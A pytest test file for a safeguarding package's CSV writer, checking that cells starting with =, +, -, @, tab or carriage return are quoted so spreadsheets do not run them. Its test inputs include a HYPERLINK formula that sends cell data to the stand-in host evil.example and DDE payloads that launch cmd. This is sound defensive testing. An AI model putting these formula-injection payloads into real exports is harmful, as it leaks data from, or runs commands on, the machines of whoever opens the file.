"""CSV written for people to open: a cell a spreadsheet would run as a formula is shown as text."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

import childfirst
from childfirst.reports.csvsafe import csv_text, safe_cell, write_csv

HYPERLINK = '=HYPERLINK("http://evil.example/steal?x="&A1,"Open the full record")'


@pytest.mark.parametrize(
    "typed",
    [
        HYPERLINK,
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "+44 7700 900123",
        "-",
    ],
)
def test_text_that_would_start_a_formula_gets_a_leading_quote(typed: str) -> None:
    [row] = list(csv.reader(io.StringIO(csv_text(["summary"], [[typed]]))))[1:]
    assert row == [f"'{typed}"]


@pytest.mark.parametrize(
    "value", ["Shouting heard by neighbours.", "a = b", "NM/25/001234", "", "-3", "+44", "-0.5", 7]
)
def test_other_cells_are_written_as_they_are(value: object) -> None:
    assert safe_cell(value) == value
    [row] = list(csv.reader(io.StringIO(csv_text(["cell"], [[value]]))))[1:]
    assert row == [str(value)]


def test_a_file_written_for_a_spreadsheet_runs_no_cell(tmp_path: Path) -> None:
    path = tmp_path / "chronology.csv"
    rows = [
        ["2025-01-18 23:40", "Domestic abuse incident", HYPERLINK],
        ["2025-03-01 18:00", "Missing person reported", "@Dean said she was with him"],
        ["2025-03-02 06:15", "Missing person returned", "Found at 12 Mill Lane"],
    ]
    with path.open("w", newline="", encoding="utf-8-sig") as handle:
        write_csv(handle, ["when", "what", "summary"], rows)
    with path.open(newline="", encoding="utf-8-sig") as handle:
        read = list(csv.reader(handle))
    assert read[0] == ["when", "what", "summary"]
    assert [r[2] for r in read[1:]] == [
        f"'{HYPERLINK}",
        "'@Dean said she was with him",
        "Found at 12 Mill Lane",
    ]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in read for cell in r)


# The synthetic area's truth files are written for the scorer to read back, from generated values
# only; every other CSV is for people, and must be written by csvsafe.
NOT_FOR_PEOPLE = {"synth/writer.py"}


def test_every_csv_written_for_people_goes_through_csvsafe() -> None:
    package = Path(childfirst.__file__).parent
    writers = {
        str(path.relative_to(package))
        for path in package.rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    }
    assert writers - NOT_FOR_PEOPLE == {"reports/csvsafe.py"}
